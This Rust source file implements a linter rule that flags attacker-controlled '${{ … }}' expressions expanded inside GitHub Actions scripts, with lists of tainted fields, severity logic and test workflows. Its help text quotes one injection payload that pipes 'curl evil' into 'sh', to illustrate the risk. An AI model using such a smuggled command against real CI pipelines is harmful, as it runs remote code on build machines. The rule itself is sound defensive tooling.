//! `workflow/template-injection`: attacker-controlled `${{ … }}` expanded inside scripts.

use serde::Deserialize;
use vouch_core::{Finding, Rule, Severity};

use super::Ctx;
use crate::model::{FileKind, context_refs, expressions};
use crate::yaml::Node;

pub const RULE: Rule = Rule {
    id: "workflow/template-injection",
    severity: Severity::High,
    summary: "Attacker-controlled `${{ … }}` is expanded inside a script",
    help: "GitHub substitutes `${{ … }}` into the script text before the shell runs it, so a \
           pull-request title like `a\"; curl evil | sh; echo \"` becomes code. Pass the value \
           through an environment variable and quote it in the shell:\n\n\
           ```yaml\n- env:\n    TITLE: ${{ github.event.pull_request.title }}\n  run: echo \
           \"$TITLE\"\n```\n\n\
           The same holds for `actions/github-script`'s `script:` (read \
           `context.payload` instead). Titles, bodies, comments, commit messages, author \
           names and e-mails, branch names (`github.head_ref`, `…head.ref`) and labels are \
           attacker-controlled; numbers, SHAs, ids and logins are not. Fields of \
           `github.event` that vouch does not know are reported at medium severity. \
           `inputs.*` are reported at medium severity in composite actions (the caller may \
           pass event text); in workflows only with `include_inputs = true` under \
           `[rules.\"workflow/template-injection\"]` (workflow_dispatch inputs come from \
           people with write access).",
    references: &[
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
        "https://securitylab.github.com/resources/github-actions-untrusted-input/",
        "https://docs.zizmor.sh/audits/#template-injection",
    ],
};

/// `[rules."workflow/template-injection"]`.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Options {
    /// Also report `inputs.*` expanded in scripts (medium severity).
    #[serde(default)]
    pub include_inputs: bool,
}

/// Last path segments of `github.event.*` fields that carry free text from outsiders.
const TAINTED_LEAVES: &[&str] = &[
    "title",
    "body",
    "message",
    "name",
    "email",
    "label",
    "head_ref",
    "ref",
    "head_branch",
    "display_title",
    "page_name",
    "description",
    "default_branch",
    "text",
    "summary",
];

/// Last segments of `github.event.*` fields that are safe to expand (numbers, ids, SHAs,
/// enums, logins and repository names, which GitHub restricts to safe characters).
const SAFE_LEAVES: &[&str] = &[
    "number",
    "id",
    "node_id",
    "sha",
    "head_sha",
    "merge_commit_sha",
    "before",
    "after",
    "action",
    "state",
    "draft",
    "merged",
    "locked",
    "private",
    "fork",
    "created_at",
    "updated_at",
    "closed_at",
    "merged_at",
    "pushed_at",
    "run_number",
    "run_attempt",
    "conclusion",
    "status",
    "event",
    "login",
    "full_name",
    "html_url",
    "url",
    "clone_url",
    "ssh_url",
    "type",
    "size",
    "forced",
    "created",
    "deleted",
    "commits",
    "additions",
    "deletions",
    "changed_files",
    "author_association",
    "visibility",
    "workflow_id",
    "check_suite_id",
];

/// Contexts outside `github.event` that carry attacker text.
const TAINTED_CONTEXTS: &[&str] = &["github.head_ref"];

/// How dangerous a context reference is, if at all.
fn classify(r: &str, opts: &Options, action: bool) -> Option<(Severity, &'static str)> {
    let r = r.to_ascii_lowercase();
    if TAINTED_CONTEXTS.contains(&r.as_str()) {
        return Some((Severity::High, "attacker-controlled branch name"));
    }
    if r == "github.ref_name" {
        // A branch or tag name may hold `$(…)`, `;` and backticks; whoever can push one
        // chooses it (zizmor reports it too).
        return Some((
            Severity::Medium,
            "a branch or tag name chosen by whoever pushes it",
        ));
    }
    if r.starts_with("inputs.") || r.starts_with("github.event.inputs.") {
        // A composite action cannot know what its caller passes (often `github.event.*`).
        return (opts.include_inputs || action)
            .then_some((Severity::Medium, "input from the caller"));
    }
    let rest = r.strip_prefix("github.event.")?;
    let leaf = rest.rsplit('.').next().unwrap_or(rest);
    if TAINTED_LEAVES.contains(&leaf) || leaf == "*" {
        return Some((Severity::High, "attacker-controlled text"));
    }
    if SAFE_LEAVES.contains(&leaf) {
        return None;
    }
    if !rest.contains('.') {
        // `github.event.pull_request`, `toJSON(github.event)`: everything below it
        return Some((
            Severity::High,
            "a whole event object, attacker text included",
        ));
    }
    Some((
        Severity::Medium,
        "event field vouch does not know to be safe",
    ))
}

pub fn run(ctx: &Ctx<'_>, out: &mut Vec<Finding>) {
    let doc = ctx.doc;
    let opts = &ctx.settings.template_injection;
    for job in doc.jobs() {
        for step in job.steps() {
            let mut scripts: Vec<(&Node, &str)> = Vec::new();
            if let Some(run) = step.run() {
                scripts.push((run, "a `run:` script"));
            }
            if step.uses_action("actions/github-script")
                && let Some(s) = step.with("script").filter(|n| n.as_str().is_some())
            {
                scripts.push((s, "a github-script `script:`"));
            }
            // `env:` visible to the step, innermost first, for `${{ env.X }}`
            let envs: Vec<&Node> = [
                step.node.get("env"),
                job.node.get("env"),
                doc.root.get("env"),
            ]
            .into_iter()
            .flatten()
            .collect();
            for (node, what) in scripts {
                check_script(ctx, opts, job.id(), node, what, &envs, out);
            }
        }
    }
}

fn check_script(
    ctx: &Ctx<'_>,
    opts: &Options,
    job: &str,
    node: &Node,
    what: &str,
    envs: &[&Node],
    out: &mut Vec<Finding>,
) {
    let action = ctx.doc.kind == FileKind::Action;
    // `${{ env.X }}` expands X's value as text too: follow it one level.
    let via_env = |r: &str| -> Option<(Severity, &'static str, String)> {
        let name = r.strip_prefix("env.")?;
        let value = envs.iter().find_map(|e| e.get(name))?.as_str()?;
        expressions(value)
            .iter()
            .flat_map(|e| context_refs(e.inner))
            .filter_map(|inner| {
                classify(&inner, opts, action)
                    .map(|(s, why)| (s, why, format!("{r}` via `{inner}")))
            })
            .max_by_key(|(s, _, _)| *s)
    };
    let Some(text) = node.as_str() else { return };
    let mut seen: Vec<&str> = Vec::new();
    for expr in expressions(text) {
        let nth = seen.iter().filter(|t| **t == expr.text).count();
        seen.push(expr.text);
        let worst = context_refs(expr.inner)
            .into_iter()
            .filter_map(|r| match classify(&r, opts, action) {
                Some((s, why)) => Some((s, why, r)),
                None => via_env(&r),
            })
            .max_by_key(|(s, _, _)| *s);
        let Some((severity, why, r)) = worst else {
            continue;
        };
        out.push(
            Finding::new(
                &RULE,
                ctx.doc.at_text(node, expr.text, nth),
                format!(
                    "`{r}` is expanded into {what} {where_}: {why} becomes {lang}",
                    where_ = if action {
                        "of the composite action".to_string()
                    } else {
                        format!("in job `{job}`")
                    },
                    lang = if what.contains("github-script") {
                        "JavaScript"
                    } else {
                        "shell code"
                    },
                ),
                &format!("{job}:{}", expr.inner),
            )
            .with_annotation("pass it through `env:` instead")
            .with_severity(severity),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Settings;
    use crate::audits::testing::{positions, run as audit, run_with};

    const WF: &str = "on: issues
jobs:
  triage:
    steps:
      - run: |
          echo \"${{ github.event.issue.title }}\"
          echo ${{ github.event.issue.number }} ${{ github.sha }}
          echo '${{ github.event.issue.title }}' \"${{ github.head_ref }}\"
      - run: echo ${{ github.event.pull_request.head.ref }} ${{ inputs.name }}
      - uses: actions/github-script@v7
        with:
          script: console.log(`${{ github.event.comment.body }}`)
      - run: echo ${{ toJSON(github.event.commits.*.message) }} ${{ github.event.weird_field.x }}
      - env:
          T: ${{ github.event.issue.title }}
        run: echo \"$T\"
";

    #[test]
    fn fires_on_tainted_contexts_with_exact_columns() {
        let f = audit(run, WF);
        assert_eq!(
            positions(&f),
            vec![
                (6, 17),
                (8, 17),
                (8, 51),
                (9, 19),
                (12, 32),
                (13, 19),
                (13, 65)
            ],
            "{f:#?}"
        );
        assert_eq!(f[6].severity, Severity::Medium);
        let r = f[0].location.region.unwrap();
        assert_eq!(
            r.end_column,
            17 + "${{ github.event.issue.title }}".len() as u32 - 1
        );
    }

    #[test]
    fn inputs_are_an_option() {
        let mut s = Settings::default();
        s.template_injection.include_inputs = true;
        assert_eq!(run_with(run, WF, &s).len(), 8);
    }

    #[test]
    fn composite_action_inputs_are_medium() {
        let text = "name: x\nruns:\n  using: composite\n  steps:\n    - run: echo ${{ inputs.bucket }}\n      shell: bash\n";
        let f = audit(run, text);
        assert_eq!(positions(&f), vec![(5, 17)]);
        assert_eq!(f[0].severity, Severity::Medium);
    }

    #[test]
    fn env_expanded_with_template_syntax_is_followed() {
        let text = "on: issues
env:
  TITLE: ${{ github.event.issue.title }}
jobs:
  a:
    steps:
      - run: echo \"${{ env.TITLE }}\" \"$TITLE\"
      - env:
          NUM: ${{ github.event.issue.number }}
        run: echo ${{ env.NUM }}
";
        let f = audit(run, text);
        assert_eq!(positions(&f), vec![(7, 20)]);
        assert!(
            f[0].message
                .contains("`env.TITLE` via `github.event.issue.title` is expanded"),
            "{}",
            f[0].message
        );
    }
}
